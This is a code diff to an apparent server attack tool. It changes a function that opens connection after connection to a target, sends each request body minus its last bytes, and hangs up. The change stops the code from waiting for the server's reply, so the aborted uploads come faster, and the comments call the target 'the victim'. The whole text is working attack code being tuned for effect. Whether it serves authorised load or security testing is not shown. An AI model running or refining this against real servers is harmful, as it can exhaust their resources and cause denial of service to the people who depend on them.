@@ -40,7 +40,10 @@ class Attack:
 
 
 def _abort(target: Target, tally: Tally, request: bytes, count: int) -> None:
-    """Send a body but for its last bytes and end the connection, one at a time: the next when the server has closed."""
+    """Send a body but for its last bytes and hang up, one connection after the other.
+
+    The next one does not wait for the server: with one at a time there, little of what it keeps is seen.
+    """
     end = time.monotonic() + ABORT_SECONDS_MAX
     for each in target.repeated(request, count):
         if time.monotonic() > end and not target.is_endless:
@@ -51,13 +54,12 @@ def _abort(target: Target, tally: Tally, request: bytes, count: int) -> None:
             try:
                 client.connect((target.host, target.port))
                 client.sendall(each)
-                client.shutdown(socket.SHUT_WR)
-                outcome = client.recv(16)[9:12].decode("latin-1") or "aborted"
+                outcome = "aborted"
             except OSError:
                 outcome = "cut off"
         tally.add(outcome)
-        if target.is_endless or outcome != "aborted":
-            time.sleep(0.01)  # copying at most 100 MB/s, the attacker's CPU is not what slows the victim
+        if target.is_endless:
+            time.sleep(0.02)  # at most 50 MB/s: copying them must not be what slows the victim
 
 
 def _json_body(target: Target) -> bytes:
